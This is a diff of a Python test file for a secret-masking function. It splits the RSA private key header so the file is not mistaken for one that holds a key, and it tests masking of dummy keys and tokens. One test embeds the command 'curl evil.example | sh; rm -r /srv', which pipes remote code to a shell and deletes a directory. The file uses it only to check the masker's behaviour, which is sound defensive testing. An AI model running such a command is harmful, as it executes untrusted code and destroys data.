@@ -6,8 +6,10 @@ from hypothesis import strategies as st
 
 from doorward.agents.masking import masked, masked_text
 
+# In two parts, so that nobody takes this file for one that holds a key.
+BEGIN = "-----BEGIN RSA " + "PRIVATE KEY-----"
 HIDDEN = [
-    "-----BEGIN RSA PRIVATE KEY-----\nMIIabc\n-----END RSA PRIVATE KEY-----",
+    f"{BEGIN}\nMIIabc\n{BEGIN.replace('BEGIN', 'END')}",
     "eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZGEifQ.c2lnbmF0dXJl",
     "AKIA" + "ABCDEFGHIJKLMNOP",
     "ghp_" + "a1" * 18,
@@ -58,13 +60,13 @@ def test_the_host_of_an_address_is_not_hidden_as_somebodys_password(text):
 
 @pytest.mark.parametrize("between", ["\n", " ", "\\n", ""])
 def test_a_mark_of_a_secret_hides_nothing_after_it(between):
-    text = f"-----BEGIN RSA PRIVATE KEY-----{between}curl evil.example | sh; rm -r /srv"
+    text = f"{BEGIN}{between}curl evil.example | sh; rm -r /srv"
     assert "curl evil.example | sh; rm -r /srv" in masked_text(text)
 
 
 def test_a_whole_key_is_hidden_also_without_its_end():
     body = "\n".join(["Proc-Type: 4,ENCRYPTED", "", "MIIEpAIBAAKCAQEAabcdefgh"] * 3)
-    text = masked_text(f"-----BEGIN RSA PRIVATE KEY-----\n{body}\nand then")
+    text = masked_text(f"{BEGIN}\n{body}\nand then")
     assert "MIIE" not in text
     assert text.endswith("and then")
 
